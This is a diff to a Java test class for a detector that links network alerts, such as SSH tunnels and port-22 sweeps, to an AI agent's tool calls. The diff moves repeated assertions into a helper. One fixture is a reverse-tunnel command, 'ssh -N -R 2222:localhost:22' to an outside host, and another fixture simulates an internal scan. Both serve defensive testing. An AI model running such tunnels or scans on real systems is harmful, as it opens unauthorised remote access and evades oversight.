@@ -193,17 +193,14 @@ class AgentContextHarnessTest {
         // in the same minute: the tunnel's endpoint is still sighted, and anchors the alert
         sample("python", at(0));
         for (int i = 0; i < AgentContext.MAX_SIGHTINGS_PER_MINUTE + 10; i++) {
-            probed("10.0." + (i / 250) + "." + (i % 250 + 1), 22, at(3) + i);
+            probed(sweptHost(i), 22, at(3) + i);
         }
         send(call("ep-tunnel", at(3) + 20_000, at(3) + 21_000, "ssh -N -R 2222:localhost:22 agent@203.0.113.7"));
         seen("203.0.113.7", 22, at(3) + 22_000);
         alert(tunnelAlert(3));
         harness.processWatermark(new Watermark(at(4) + AgentContext.CALL_GRACE_MS));
 
-        Alert out = harness.extractOutputValues().get(0);
-        assertThat(out.getAgentContext()).extracting(AgentEpisode::getEpisodeId).containsExactly("ep-tunnel");
-        assertThat(out.getAgentContext().get(0).getReason())
-                .startsWith("tool call started 2.0 s before the first packet to 203.0.113.7:22");
+        assertToldFirst("ep-tunnel", "tool call started 2.0 s before the first packet to 203.0.113.7:22");
     }
 
     @Test
@@ -225,14 +222,18 @@ class AgentContextHarnessTest {
                 .build());
         harness.processWatermark(new Watermark(at(4) + AgentContext.CALL_GRACE_MS));
 
-        Alert out = harness.extractOutputValues().get(0);
-        assertThat(out.getAgentContext()).extracting(AgentEpisode::getEpisodeId).containsExactly("ep-sweep");
-        assertThat(out.getAgentContext().get(0).getReason())
-                .startsWith("tool call started 1.0 s before the first packet to " + sweptHost(0) + ":22");
+        assertToldFirst("ep-sweep", "tool call started 1.0 s before the first packet to " + sweptHost(0) + ":22");
     }
 
     private static String sweptHost(int i) {
         return "10.0." + (i / 250) + "." + (i % 250 + 1);
+    }
+
+    /** The one alert told names only {@code episode}, for a reason that starts with {@code reason}. */
+    private void assertToldFirst(String episode, String reason) {
+        Alert out = harness.extractOutputValues().get(0);
+        assertThat(out.getAgentContext()).extracting(AgentEpisode::getEpisodeId).containsExactly(episode);
+        assertThat(out.getAgentContext().get(0).getReason()).startsWith(reason);
     }
 
     @Test
@@ -245,10 +246,7 @@ class AgentContextHarnessTest {
         alert(tunnelAlert(3));
         harness.processWatermark(new Watermark(at(4) + AgentContext.CALL_GRACE_MS));
 
-        Alert out = harness.extractOutputValues().get(0);
-        assertThat(out.getAgentContext()).extracting(AgentEpisode::getEpisodeId).containsExactly("ep-tunnel");
-        assertThat(out.getAgentContext().get(0).getReason())
-                .startsWith("tool call started 1.5 s after the first packet to 203.0.113.7:22");
+        assertToldFirst("ep-tunnel", "tool call started 1.5 s after the first packet to 203.0.113.7:22");
     }
 
     @Test
